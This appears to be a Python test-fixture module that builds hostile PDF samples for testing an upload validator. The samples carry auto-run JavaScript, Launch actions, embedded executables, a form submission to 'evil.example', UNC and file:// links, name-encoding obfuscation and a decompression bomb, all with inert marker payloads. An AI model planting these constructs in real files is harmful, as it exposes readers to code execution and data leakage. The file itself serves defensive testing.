"""PDFs that act, carry something, or make the reader work."""

import zlib
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.factories.files import pdf_bytes
from tests.portal.files.hostile import HTML, MARK, Hostile, valid

SAID = MARK.decode()


def every():
    for label, change in CHANGES.items():
        yield Hostile(f"pdf: {label}", "verslag.pdf", pdf_bytes(change))
        yield Hostile(f"pdf: {label}, packed", "verslag.pdf", packed(change))
    for label, content in raw().items():
        yield Hostile(f"pdf: {label}", "verslag.pdf", content)
    for label, passwords in {
        "locked": {"user": "x", "owner": "y"},
        "restricted": {"owner": "y"},
    }.items():
        content = pdf_bytes(encryption=pikepdf.Encryption(**passwords))
        yield Hostile(f"pdf: {label}", "verslag.pdf", content, True)
    yield Hostile("pdf: no page", "verslag.pdf", no_page(), True)
    yield Hostile("pdf: a stream that unpacks", "verslag.pdf", pdf_bytes(unpacks), heavy=True)


LOCKS = {"locked": {"user": "x", "owner": "y"}, "restricted": {"owner": "y"}}


def packed(change):
    """With its objects in compressed streams, where a search for words finds nothing."""
    return pdf_bytes(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def action(kind, **more):
    return Dictionary(S=Name(f"/{kind}"), **more)


def script():
    return action("JavaScript", JS=String(f"app.alert('{SAID}')"))


def opens_with(make):
    def change(pdf):
        pdf.Root.OpenAction = make()

    return change


def annotated(make, **more):
    def change(pdf):
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), **more)
        if make:
            note.A = make()
        pdf.pages[0].Annots = Array([pdf.make_indirect(note)])

    return change


def file_of(pdf):
    stream = pdf.make_stream(b"MZ" + MARK, Type=Name.EmbeddedFile)
    return Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=stream))


def embeds(pdf):
    names = Array([String("x.exe"), pdf.make_indirect(file_of(pdf))])
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=names))


def attaches(pdf):
    annotated(None, FS=pdf.make_indirect(file_of(pdf)))(pdf)


def associates(pdf):
    pdf.Root.AF = Array([pdf.make_indirect(file_of(pdf))])


def named_script(pdf):
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script()])))


def xfa(pdf):
    form = pdf.make_stream(b"<xdp:xdp><script>" + MARK + b"</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=form)


def field_script(pdf):
    field = Dictionary(
        FT=Name.Tx, T=String("a"), AA=Dictionary(K=script()), Rect=Array([0, 0, 9, 9])
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]))


def page_script(pdf):
    pdf.pages[0].AA = Dictionary(O=script(), C=script())


def outline_script(pdf):
    item = pdf.make_indirect(Dictionary(Title=String("x"), A=script()))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=item, Last=item, Count=1))


def hidden_deep(pdf):
    """Where no reader should look, and some do."""
    pdf.Root.Extra = Dictionary(Deep=Array([Dictionary(Deeper=Array([script()]))]))
    pdf.pages[0].Odd = Dictionary(A=action("Launch", F=String(SAID)))


def chained(pdf):
    first = action("URI", URI=String("https://soest.example/"), Next=Array([script(), script()]))
    annotated(lambda: first)(pdf)


def media(pdf):
    content = Dictionary(Assets=Dictionary(Names=Array([String("x.swf"), file_of(pdf)])))
    annotated(None, RichMediaContent=content, RichMediaSettings=Dictionary(X=String(SAID)))(pdf)


def notes_of_a_program(pdf):
    pdf.pages[0].PieceInfo = Dictionary(Program=Dictionary(Private=String(SAID)))
    pdf.Root.SpiderInfo = Dictionary(V=1, C=Array([String(SAID)]))


def film(pdf):
    annotated(None, Movie=Dictionary(F=String(SAID)))(pdf)
    pdf.pages[0].Annots[0].Subtype = Name.Movie


def unpacks(pdf):
    squeezed = zlib.compress(zlib.compress(b"0 " * 40_000_000, 1), 9)
    stream = pikepdf.Stream(pdf, squeezed)
    stream.Filter = Array([Name.FlateDecode, Name.FlateDecode])
    pdf.pages[0].Contents = pdf.make_indirect(stream)


def no_page():
    with pikepdf.new() as pdf:
        file = BytesIO()
        pdf.save(file, deterministic_id=True)
    return file.getvalue()


PAGES = (
    b"endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>"
)


def by_hand(catalog, rest=PAGES):
    return b"%PDF-1.4\n1 0 obj" + catalog + rest


def raw():
    good = valid()["pdf"]
    spelled = b"<</S/JavaScript/JS(" + MARK + b")>>"
    coded = b"<</#53/J#61vaScript/J#53(" + MARK + b")>>"
    catalog = b"<</Type/Catalog/Pages 2 0 R/%b%b>>"
    loop = b"endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>"
    return {
        "a page in front": HTML["script"] + good,
        "a page behind": good + HTML["script"],
        "a page in a comment": good.replace(b"\n", b"\n%" + HTML["bare"] + b"\n", 1),
        "only a head": b"%PDF-1.7\n" + HTML["script"],
        "deep": by_hand(b"[" * 5000 + b"]" * 5000, b"endobj\ntrailer<</Root 1 0 R>>"),
        "a loop of pages": by_hand(catalog % (b"X", b"/X"), loop),
        "an endless xref": b"%PDF-1.4\nxref\n0 99999999\n" + b"0" * 200 + b"trailer<</Prev 9>>",
        "a script by hand": by_hand(catalog % (b"OpenAction", spelled)),
        "a name in code": by_hand(catalog % (b"Open#41ction", coded)),
    }


def link(kind, **more):
    return annotated(lambda: action(kind, **more))


CHANGES = {
    "a script when opened": opens_with(script),
    "a script of the document": named_script,
    "a script of a page": page_script,
    "a script of a field": field_script,
    "a script of an outline": outline_script,
    "a script behind a link": chained,
    "hidden deep": hidden_deep,
    "starts a program": link("Launch", F=String(SAID)),
    "starts a program when opened": opens_with(lambda: action("Launch", F=String(SAID))),
    "goes to another file": link("GoToR", F=String(f"\\\\evil\\{SAID}")),
    "goes to a file within": link("GoToE", F=String(SAID)),
    "sends a form": link("SubmitForm", F=String(f"http://evil.example/{SAID}")),
    "takes in data": link("ImportData", F=String(SAID)),
    "a link that is a script": link("URI", URI=String(f"javascript:alert('{SAID}')")),
    "a link to the disk": link("URI", URI=String(f"file:///c:/{SAID}")),
    "a link without a scheme": link("URI", URI=String(f"//{SAID}")),
    "plays": link("Rendition", JS=String(SAID)),
    "a movie": link("Movie", T=String(SAID)),
    "a sound": link("Sound", Sound=String(SAID)),
    "rich media": media,
    "a film on a page": film,
    "notes of a program": notes_of_a_program,
    "a file within": embeds,
    "a file pinned to a page": attaches,
    "a file beside": associates,
    "xfa": xfa,
}
